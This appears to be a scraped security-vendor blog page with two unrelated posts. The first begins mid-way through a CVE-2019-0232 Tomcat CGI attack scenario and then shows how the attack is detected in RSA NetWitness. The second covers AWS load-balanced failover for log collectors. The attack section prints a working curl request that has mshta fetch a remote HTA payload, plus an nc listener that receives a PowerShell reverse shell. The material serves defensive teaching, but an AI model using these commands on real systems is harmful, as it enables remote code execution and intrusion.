Volume in drive C has no label.Volume Serial Number is 4033-77BA

Directory of C:\Program Files\Apache Software Foundation\Tomcat 9.0\webapps\ROOT\WEB-INF\cgi

19/12/2019  13:27    <DIR>          .
19/12/2019  13:27    <DIR>          ..
17/12/2019  15:00    <DIR>          %SystemDrive%
16/12/2019  21:37                67 app.bat
19/12/2019  13:19                21
               2 File(s)             88 bytes
               3 Dir(s)  39,850,405,888 bytes free


Now the attacker decides to create a malicious payload that will spawn a remote shell. To do that, he uses a tool dubbed WeirdHTA that allows to create an obfuscated remote shell in hta format that he can then invoke remotely using the Microsoft mshta utility. The attacker tests the file with the most common anti virus software to ensure is properly obfuscated and not detected before initiating the attack.



The attacker launches the below command to connect to the remote server and run the malicious payload:

root@kali:~# curl -v ""
*   Trying
* Connected to ( port 8080 (#0)
> GET /cgi/app.bat?&C%3A%2FWindows%2FSystem32%2Fmshta.exe+http%3A%2F%2F192.168.16.146%3A8000%2Fshell.hta HTTP/1.1
> Host:
> User-Agent: curl/7.66.0
> Accept: */*
* Mark bundle as not supporting multiuse
< HTTP/1.1 200
< Content-Type: text/plain
< Content-Length: 15
< Date: Fri, 31 Jan 2020 10:44:16 GMTHello, World!
* Connection #0 to host left intact


If we break this command down we can see the following:

  1. curl -v "
      The above is the URL of the Tomcat server where the CGI Servlet app (app.bat) resides
  2. ?&C%3A%2FWindows%2FSystem32%2Fmshta.exe+
      The second part is a URL-encoded string that decodes to C:\Windows\System32\mshta.exe
  3. http%3A%2F%2F192.168.16.146%3A8000%2Fshell.hta"
    This last part is the URL-encoded address of the remote location ( where the attacker keeps the malicious payload, that is shell.hta.


The attacker, who had created a listener on his remote server, obtains the shell:

root@kali:~# nc -lvnp 7777
listening on [any] 7777 ...
connect to [] from (UNKNOWN) [] 50057
Client Connected...PS C:\Program Files\Apache Software Foundation\Tomcat9.0\webapps\ROOT\WEB-INF\cgi> dir

    Directory: C:\Program Files\Apache Software Foundation\Tomcat 9.0\webapps\ROOT\WEB-INF\cgi

Mode                LastWriteTime         Length Name
----                ---         --- ----
d-----       17/12/2019     15:00                %SystemDrive%
-a----       16/12/2019     21:37             67 app.bat
-a----       19/12/2019     13:19             21

PS C:\Program Files\Apache Software Foundation\Tomcat 9.0\webapps\ROOT\WEB-INF\cgi>


Part 2 - Detection phase with the RSA NetWitness Platform

While investigating with RSA NetWitness Endpoint the analyst notices the Behaviors of Compromise meta key populated with thevalue runs mshta with http argument, which isunusual.



Filtering by the runs mshta with http argument indicator, the analyst observes that an application running on Tomcat is launching mshta which in turn is calling an hta file residing on a remote server (



Drilling into these sessions using the event analysis panel, the analyst is able to confirm the events in more detail:

  1. app.bat ( running on machine with hostname winEP1 and IP
  2. created the process
  3. called mshta.exe
  4. mshta.exe runs with the parameter


The analyst, knowing the affected machine IP address, decides to dig deeper with the RSA NetWitness Platform using the network (i.e. packet) data.


  1. Investigating around the affected machine IP in the same time range, the analysts notices the IP address (attacker) connecting to Tomcat on port 8080 (to test whether the server is vulnerable to CVE-2019-0232) by adding the dir command to the URL. He can also see the response.

  2. Immediately after the first event, the analyst notices the same IP address connecting on the same port but this time using a more complex GET request which seems to allude to malicious behavior.

  3. Now the analysts filters by ip.dst= (the IP address found in the GET request above) and he is able to see the content of the shell.hta file. Although it is encoded and not human-readable it is extremely suspicious!

  4. Next, the analysts filters by ip.dst= and he eventuallysees that the attacker has obtained shell access (through PowerShell) to the windows machine where Tomcat resides.



LotL tactics are very effective and difficult to detect due to the legitimate nature of the tools used to perform such attacks. Constant monitoring and proactive threat hunting are vital for any organization. The RSA NetWitness Platform provides analysts with the visibility needed to detect such activities, thus reducing the risk of being compromised.

If you need to achieve HA through load balancing and failover for VLCs on AWS you can use the built-in AWS load balancer. I have tested this scenario so I am going to share the outcome here.


Before starting I need to state that VLCs failover/balancing  is not an RSA officially supported functionality. Furthermore this can only work with "push" collections such as syslog, snmp, etc. It does not work with "pull" collections suchus Windows, Checkpoint, ODBC, etc. (at least not that I am aware of and I have personally never tested it).


That being said, let's get started.


As you may be aware, in AWS EC2 you have separate geographic areas called Regions (I am using US East - N.Virgina here) and within regions you have different isolated locations called Availability Zones.



We are going to leverage this concept and we will place two VLCs into two different Availability Zones. If one VLC fails we will have the VLC in the other Availability Zone to take over.


The following diagram helps understanding the scenario (for better clarity I omitted the data flow from the VLCs to the Log Decoder/s):Assuming you have already deployed the two VLC instances, the next step to do is creating two different subnets and associate two different Availability Zones to each of them .


  • From the AWS Virtual Private Cloud (VPC) menu go to Subnets and start creating the two subnets:



  • Next we need to create a Target Group (from the EC2 menu) which will be used to route requests to our registered targets (the VLCs):



  • Finally we need to create the load balancer itself. For this specific test I have used a Network Load Balancer but I think an Application Load Balancer would work too. I selected an internal balancer. I chose syslog on TCP port 514 so I created a listener for that. Actually, the AWS load balancer does not support UDP so I was forced to use TCP, however I would have used syslog over TCP anyway as it is more robust and reliable and large syslog messages can be transferred (especially if it is a production environment). I also select the appropriate VPC and the Availability Zones (and subnets) accordingly.



In the advanced health check settings I chose to use port 5671 (by default the balancer would have used the same as the listener, 514). The reason of using 5671 is because the whole log collection mechanism works with rabbitmq which uses this port. In fact the only scenario 514 would not work is when the VLC instance is down or if we stop thesyslog collection. I think rabbitmq is more prone to failures and may fail in more scenarios, such as queues filling up because the decoder is not consuming the logs, full partitions, network issues, etc.



  • Once the load balancer configuration is finished you will see something similar:



           We need to take note of the DNS A Record as this is what our event sources will use to send syslog traffic to.


  • Now to configure an event source to send syslog logs to the load balancer you just need to point the event source to the load balancer DNS A Record. As an example, for a Red Hat Linux machine you should edit the /etc/rsyslog.conf file as follow:We are using @@ because is TCP, for UDP it's just one @.


         Then we need to restart the rsyslog service as follow:


            --> service rsyslog restart (Red Hat 6)

            --> systemctl restart rsyslog (Red Hat 7)


  • To perform a more accurate and controlled test and demonstration, I am installing a tool on the same event source and I will push some rhlinux logs to the load balancer and see what happens. The tool is an RSA proprietary one and is called NwLogPlayer (more details here How To Replay Logs in RSA NetWitness ). It can be installed via Yum if you have enabled the RSA Netwitness repo:




      I also prepared a rhlinux sample logs file with 14000 events and I am going to inject these to the load balancer and       see what happens. Initially my Log Decoder LogStats page is empty:




     Then I start with the first push of the 14000 events:Now I can see the first 14000 events went to VLC2 (


      At my second push I can see the whole chuck going to VC1 (


      At the third push the logs went again to VLC2


     At the fourth push the logs went to VLC1


     At the fifth push, I sent 28000 events (almost simultaneously)  and they get divided to both VLCsThis demonstrates that the load has been balanced equally between the two VLCs.


     Now I stop VLC1 (I actually stopped the rabbitmq-service on VLC1) and I push other 14000 logs:


     and again


     On both instances above VLC2 received the two chunks of 14000 logs since VLC1 was down. We can safely say            that Failover is working fine!

Note: Thisconfiguration is notofficially supported by RSA customer support.

FilterBlog

By date: By tag: